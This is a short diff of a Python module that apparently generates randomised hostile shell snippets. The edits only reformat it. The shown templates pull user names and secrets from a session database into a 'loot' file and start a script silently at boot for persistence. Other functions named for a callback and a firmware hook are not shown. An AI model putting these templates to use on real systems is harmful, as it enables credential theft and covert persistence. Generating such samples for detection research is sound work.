@@ -54,7 +54,9 @@ def call_back(rng: Random, names: Names) -> str:
 
 def take_credentials(rng: Random, names: Names) -> str:
     """Ask the session database for users and secrets and append them to the loot file."""
-    sql = rng.choice(("select {0},{1} from {2}", "SELECT {0}, {1} FROM {2};", "select {0}, {1} from {2} where {0} != ''"))
+    sql = rng.choice(
+        ("select {0},{1} from {2}", "SELECT {0}, {1} FROM {2};", "select {0}, {1} from {2} where {0} != ''")
+    )
     sql = sql.format(names.user_column, names.secret_column, names.session_table)
     database, loot = names.session_database, names.loot
     return rng.choice((
@@ -119,9 +121,11 @@ def firmware_hook(rng: Random, names: Names) -> str:
 def boot_line(rng: Random, names: Names) -> str:
     """Start the main script at boot."""
     path = f"{names.folder}/{names.main}"
-    return rng.choice((
-        f"{path} &\n",
-        f"nohup {path} >/dev/null 2>&1 &\n",
-        f"[ -x {path} ] && {path} &\n",
-        f"(sleep 20; bash {path}) &\n",
-    ))
+    return rng.choice(
+        (
+            f"{path} &\n",
+            f"nohup {path} >/dev/null 2>&1 &\n",
+            f"[ -x {path} ] && {path} &\n",
+            f"(sleep 20; bash {path}) &\n",
+        )
+    )
